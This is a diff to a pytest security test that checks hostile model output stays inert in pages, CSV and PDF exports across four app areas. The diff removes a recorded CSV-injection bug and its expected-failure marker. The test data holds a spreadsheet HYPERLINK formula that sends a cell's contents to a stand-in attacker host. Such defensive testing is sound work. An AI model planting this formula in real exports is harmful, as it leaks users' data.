@@ -26,10 +26,6 @@ from tests.security.untrusted_text import HOSTILE_TEXT, formula_cells, hostile_j
 
 AREAS = ["core", "inspection", "support", "tutoring"]
 FREE_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"open")\n' + HOSTILE_TEXT  # a formula first, then markup
-KNOWN_APP_BUGS = {
-    "inspection": "apps/inspection: the report CSV export writes text starting with = + - @ as is, so a spreadsheet "
-    "runs it as a formula (CSV injection); cells must be prefixed with ' (or a tab) when they start so",
-}
 
 
 def finish_runs_with_hostile_answers(rounds: int = 4) -> int:
@@ -83,11 +79,7 @@ def problems_in(response) -> list[str]:
     return []
 
 
-@pytest.mark.parametrize(
-    "area",
-    [pytest.param(a, marks=pytest.mark.xfail(strict=True, reason=KNOWN_APP_BUGS[a])) if a in KNOWN_APP_BUGS else a
-     for a in AREAS],
-)  # fmt: skip
+@pytest.mark.parametrize("area", AREAS)
 def test_hostile_model_output_is_inert_in_every_page_csv_and_pdf(world, area):
     client, ctx = world
     take_every_record_to_its_end(client, ctx)
